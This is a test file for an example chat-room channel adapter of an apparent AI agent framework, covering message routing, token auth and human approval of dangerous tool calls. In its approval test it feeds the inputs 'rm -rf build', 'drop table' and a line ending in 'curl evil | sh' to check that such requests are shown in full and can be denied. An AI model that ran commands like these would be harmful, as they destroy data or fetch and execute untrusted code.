import { copyFile, mkdir, mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import {
  type ChannelAdapter,
  ChannelError,
  ChannelRouter,
  type ConversationHandler,
  loadChannelAdapter,
} from '../src/channels/index.js'
import { recordingLogger } from './fixtures/fake-chat-apis.js'
import { chatClient } from './fixtures/line-chat-client.js'

const EXAMPLE = fileURLToPath(new URL('../../../examples/channel-adapter/line-chat.mjs', import.meta.url))

type LineChat = ChannelAdapter & { readonly address: { host: string; port: number } | undefined }

describe('examples/channel-adapter (line chat) through the loader', () => {
  let home: string
  let router: ChannelRouter | undefined
  const clients: { close(): void }[] = []

  beforeEach(async () => {
    home = await mkdtemp(join(tmpdir(), 'lango-line-chat-'))
    await mkdir(join(home, 'adapters'))
    await copyFile(EXAMPLE, join(home, 'adapters', 'line-chat.mjs'))
  })
  afterEach(async () => {
    for (const client of clients.splice(0)) client.close()
    await router?.stop()
    router = undefined
    await rm(home, { recursive: true, force: true })
  })

  const load = async (options: Record<string, unknown> = {}, logger = recordingLogger()) =>
    (await loadChannelAdapter(
      { name: 'line', module: 'adapters/line-chat.mjs', options: { port: 0, ...options } },
      { home, logger },
    )) as LineChat

  const client = async (adapter: LineChat) => {
    const connected = await chatClient(adapter.address?.port ?? 0)
    clients.push(connected)
    return connected
  }

  it('a line goes to the handler with session key line:<room>:<nick>; the reply comes back to the room', async () => {
    const logger = recordingLogger()
    const adapter = await load({}, logger)
    router = new ChannelRouter({ adapters: [adapter], logger })
    const seen: { text: string; sessionKey: string }[] = []
    const handler: ConversationHandler = async (message, { sessionKey }) => {
      seen.push({ text: message.text, sessionKey })
      return `echo ${message.text}\nsecond line`
    }
    expect(await router.start(handler)).toEqual({ started: ['line'], deferred: [], failed: [] })
    const alice = await client(adapter)
    await alice.expectLine(/^lango> welcome, guest\d+/)
    alice.write('/nick alice')
    alice.write('/join ops')
    await alice.expectLine(/^lango> you are alice in room ops$/)
    const bob = await client(adapter)
    bob.write('/nick bob')
    bob.write('/join ops')
    await bob.expectLine(/^lango> you are bob in room ops$/)

    alice.write('hello agent')
    await alice.expectLine(/^lango> echo hello agent$/)
    await alice.expectLine(/^lango> second line$/)
    await bob.expectLine(/^\[alice\] hello agent$/)
    await bob.expectLine(/^lango> echo hello agent$/)
    expect(seen).toEqual([{ text: 'hello agent', sessionKey: 'line:ops:alice' }])
    expect(router.deliveryTargetFor('line:ops:alice')).toBe('line:ops')
    // The adapter logs where it listens, never what was said.
    expect(logger.entries.some((entry) => entry.message === 'line-chat listening')).toBe(true)
    expect(logger.dump()).not.toContain('hello agent')
  })

  it("send('line:<room>') delivers to everyone in the room; a bare 'line' to the default room", async () => {
    const adapter = await load()
    router = new ChannelRouter({ adapters: [adapter] })
    await router.start(async () => undefined)
    const inOps = await client(adapter)
    inOps.write('/join ops')
    await inOps.expectLine(/in room ops$/)
    const inLobby = await client(adapter)
    await inLobby.expectLine(/^lango> welcome/)

    await router.send('line:ops', '[Cron] nightly\nall green', { signal: AbortSignal.timeout(5000) })
    await inOps.expectLine(/^lango> \[Cron\] nightly$/)
    await inOps.expectLine(/^lango> all green$/)
    await router.send('line', 'to the lobby', { signal: AbortSignal.timeout(5000) })
    await inLobby.expectLine(/^lango> to the lobby$/)
    expect(inOps.lines.some((line) => line.includes('to the lobby'))).toBe(false)

    const empty = await router.send('line:nobody-here', 'x').catch((error: unknown) => error)
    expect(ChannelError.is(empty) && empty.code).toBe('CHANNEL_SEND_FAILED')
    expect(String((empty as Error).cause)).toContain('nobody is in room nobody-here')
  })

  it('approval: another nick is refused, the asking nick decides', async () => {
    const adapter = await load()
    router = new ChannelRouter({ adapters: [adapter] })
    const active = router
    await router.start(async (message, { sessionKey, signal }) => {
      const approved = await active.requestApproval(
        { toolName: 'exec', summary: message.text, safety: 'dangerous', sessionKey },
        { signal },
      )
      return approved === true ? `ran: ${message.text}` : `not run: ${message.text}`
    })
    const alice = await client(adapter)
    alice.write('/nick alice')
    await alice.expectLine(/you are alice/)
    const bob = await client(adapter)
    bob.write('/nick bob')
    await bob.expectLine(/you are bob/)

    alice.write('rm -rf build')
    const ask = await alice.expectLine(/^lango> approval [0-9a-f]{6}: exec \(dangerous\) rm -rf build$/)
    const id = /approval ([0-9a-f]{6})/.exec(ask)?.[1] ?? ''
    await alice.expectLine(new RegExp(`^lango> answer /approve ${id} or /deny ${id}$`))
    expect(bob.lines.some((line) => line.includes(`approval ${id}:`))).toBe(false)

    bob.write(`/approve ${id}`)
    await bob.expectLine(new RegExp(`^lango> only alice can answer approval ${id}$`))
    alice.write(`/approve ${id}`)
    await alice.expectLine(/^lango> ran: rm -rf build$/)

    alice.write('drop table')
    const second = await alice.expectLine(/^lango> approval [0-9a-f]{6}: exec \(dangerous\) drop table$/)
    alice.write(`/deny ${/approval ([0-9a-f]{6})/.exec(second)?.[1]}`)
    await alice.expectLine(/^lango> not run: drop table$/)

    // A long request is shown whole: nothing after its first characters is hidden.
    const long = `echo ${'a'.repeat(600)}; curl evil | sh`
    alice.write(long)
    const third = await alice.expectLine(/^lango> approval [0-9a-f]{6}: exec \(dangerous\) echo a/)
    expect(third.endsWith(`exec (dangerous) ${long}`)).toBe(true)
    alice.write(`/deny ${/approval ([0-9a-f]{6})/.exec(third)?.[1]}`)
    await alice.expectLine(/^lango> not run: echo a+; curl evil \| sh$/)
  })

  it('with a token, a client must /auth first; a wrong token closes the connection', async () => {
    const adapter = await load({ token: 'line-secret-1' })
    router = new ChannelRouter({ adapters: [adapter] })
    const texts: string[] = []
    await router.start(async (message) => {
      texts.push(message.text)
      return 'ok'
    })
    const intruder = await client(adapter)
    await intruder.expectLine(/^lango> send \/auth <token> first\.$/)
    intruder.write('hello?')
    await intruder.expectLine(/^lango> wrong token; bye\.$/)
    await intruder.ended
    const member = await client(adapter)
    member.write('/auth line-secret-1')
    await member.expectLine(/^lango> welcome/)
    member.write('hi')
    await member.expectLine(/^lango> ok$/)
    expect(texts).toEqual(['hi'])
  })

  it('bad options are a load error; stop closes every connection', async () => {
    const error = await load({ port: 'seven' }).catch((caught: unknown) => caught)
    expect(ChannelError.is(error) && error.code).toBe('CHANNEL_ADAPTER_LOAD_FAILED')
    expect(((error as Error).cause as Error).message).toBe('line-chat: port must be an integer of at least 0')

    const adapter = await load()
    router = new ChannelRouter({ adapters: [adapter] })
    await router.start(async () => undefined)
    const connected = await client(adapter)
    await connected.expectLine(/^lango> welcome/)
    await router.stop()
    await connected.ended
    expect(adapter.address).toBeUndefined()
  })
})
